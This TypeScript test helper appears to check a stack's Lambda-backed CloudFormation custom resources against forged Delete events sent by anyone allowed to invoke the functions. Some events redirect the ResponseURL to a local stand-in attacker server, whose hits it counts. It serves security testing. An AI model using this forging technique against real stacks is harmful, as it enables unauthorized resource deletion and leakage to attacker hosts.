import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { StackResource } from '@aws-sdk/client-cloudformation';
import type { Aws } from '../../../integ/demo/aws';
import type { TemplateResource } from '../../support/templates';

/**
 * Invokes the functions of a deployed stack with forged deletions of its custom resources, as anybody with `lambda:InvokeFunction` can do it.
 * @param properties the properties that the resources have, and those that the attacker chooses
 * @returns the number of requests that reached the server of the attacker
 */
export async function attack(
  { lambda }: Aws, template: Record<string, TemplateResource>, deployed: readonly StackResource[], emulator: string, properties: Record<string, string>,
): Promise<number> {
  let received = 0;
  const server = createServer((_request, response) => { received++; response.end(); });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const attacker = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  const nameOf = (id: string) => deployed.find(({ LogicalResourceId }) => LogicalResourceId === id)!.PhysicalResourceId!;
  const events = deployed.filter(({ ResourceType }) => ResourceType!.startsWith('Custom::')).flatMap(({ StackId, LogicalResourceId, ResourceType, PhysicalResourceId }) => {
    const genuine = {
      RequestType: 'Delete',
      RequestId: 'forged',
      StackId,
      LogicalResourceId,
      ResourceType,
      PhysicalResourceId,
      ResourceProperties: properties,
      ResponseURL: `${emulator}/_ministack/cfn-response/forged`,
    };
    const FunctionName = nameOf(template[LogicalResourceId!].Properties.ServiceToken['Fn::GetAtt'][0]);
    return [genuine, { ...genuine, ResponseURL: attacker }, { ...genuine, StackId: StackId!.replace(/.$/, 'x') }].map((event) => ({ FunctionName, Payload: JSON.stringify(event) }));
  });
  const responses = await Promise.all(events.map((request) => lambda.invoke(request)));
  expect(responses.map(({ StatusCode }) => StatusCode)).toEqual(events.map(() => 200));
  server.close();
  return received;
}
